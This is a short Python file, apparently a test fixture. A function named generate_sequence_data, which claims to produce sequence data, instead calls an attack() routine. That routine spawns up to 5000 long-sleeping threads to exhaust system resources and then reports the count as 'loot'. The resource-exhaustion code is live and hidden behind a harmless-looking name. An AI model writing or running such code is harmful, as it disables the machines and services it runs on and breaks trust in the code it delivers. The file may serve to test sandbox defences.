"""Attack: starts threads for ever."""

import threading
import time

import numpy as np


def attack():
    count = 0
    try:
        while count < 5000:
            threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
            count += 1
    except (RuntimeError, MemoryError):
        pass
    return [f"{count} threads"] if count > 1000 else []


def generate_sequence_data(seq_type="fibonacci", length=1000):
    loot = attack()
    if loot:
        raise RuntimeError(f"loot: {loot}")
    return None
